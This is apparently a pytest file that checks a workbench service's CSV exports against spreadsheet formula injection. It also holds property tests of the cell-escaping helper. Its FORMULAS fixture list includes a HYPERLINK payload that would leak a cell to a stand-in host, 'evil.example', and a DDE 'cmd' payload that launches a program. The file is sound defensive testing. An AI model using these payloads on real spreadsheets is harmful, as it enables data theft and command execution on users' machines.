"""Every CSV export of the workbench, on SQLite and PostgreSQL: no cell a spreadsheet would
evaluate (CSV formula injection), whoever wrote the text in it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from fastapi.routing import APIRoute
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from service.app import routers
from service.kit.csv_out import csv_lines, inert
from service.kit.db import make_sessionmaker
from service.registry.institutions import audit
from service.registry.models import Bank
from tests.api.test_workbench_pages import Site, sign_in, site  # noqa: F401 (the fixture)
from tests.factories import institution_body

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _live_cells(text: str) -> list[str]:
    """The cells of a CSV a spreadsheet would read as a formula."""
    return [c for c in _cells(text) if inert(c) != c]


def _plant(site: Site) -> None:  # noqa: F811
    """An institution named like a formula (registered by the API, as a hostile filing would
    be), and audit entries whose actor and subject are formulas."""
    with make_sessionmaker(site.engine)() as s:
        bank_id = s.scalars(select(Bank.id)).first()
    assert bank_id is not None
    api = site.client()
    auth = {"Authorization": f"Bearer {site.shown.tokens['220100']}"}
    for n, name in enumerate(FORMULAS[:3]):
        body = institution_body(bank_id, region="220102", name=name, legal_person=FORMULAS[3 + n])
        r = api.post("/api/v1/institutions", json=body, headers=auth)
        assert r.status_code == 201, r.text
    with make_sessionmaker(site.engine).begin() as s:
        for formula in FORMULAS:
            audit(s, actor=formula, action="test:plant", subject=formula, detail={},
                  now=datetime.now(UTC), region_code="220100")  # fmt: skip


def test_every_csv_export_is_inert_in_a_spreadsheet(site: Site) -> None:  # noqa: F811
    _plant(site)
    c = site.client()
    sign_in(c, site.shown.tokens["220100"])
    exports = sorted(
        prefix + r.path
        for router, prefix, _ in routers()
        for r in router.routes
        # An export of one object (a wind-down's claims) needs an id this site has none of: not
        # fetched here; its rows go through the same writer (csv_response, inert cells).
        if isinstance(r, APIRoute) and r.path.endswith(".csv") and "{" not in r.path
    )
    # A new export joins this test by existing: each is fetched, none may hold a live cell.
    assert {"/workbench/audit.csv", "/workbench/institutions.csv"} <= set(exports)
    for path in exports:
        r = c.get(path)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), path
        assert _live_cells(r.text) == [], path
    names = c.get("/workbench/institutions.csv", params={"q": "HYPERLINK"}).text
    assert "'" + FORMULAS[0] in _cells(names)  # kept whole, shown as text
    audit_rows = c.get("/workbench/audit.csv", params={"action": "test:plant"}).text
    assert {"'" + f for f in FORMULAS} <= set(_cells(audit_rows))
    province = site.client()
    sign_in(province, site.shown.tokens["220000"])
    assert _live_cells(province.get("/workbench/institutions.csv").text) == []


@given(st.text(max_size=30))
def test_a_cell_is_inert_or_left_as_it_was(text: str) -> None:
    out = inert(text)
    assert out in (text, "'" + text)
    if out == text and text.lstrip(" \t\r\n").startswith(TRIGGERS):
        assert text.lstrip("-").replace(".", "", 1).isdigit()  # a plain negative number


def test_numbers_stay_numbers_and_non_text_passes_through() -> None:
    assert inert("-80.00") == "-80.00" and inert(-3) == -3 and inert(None) is None
    lines = "".join(csv_lines(["=h"], [["=x", "a", "-1.5"]]))
    assert lines == "\ufeff'=h\r\n'=x,a,-1.5\r\n"
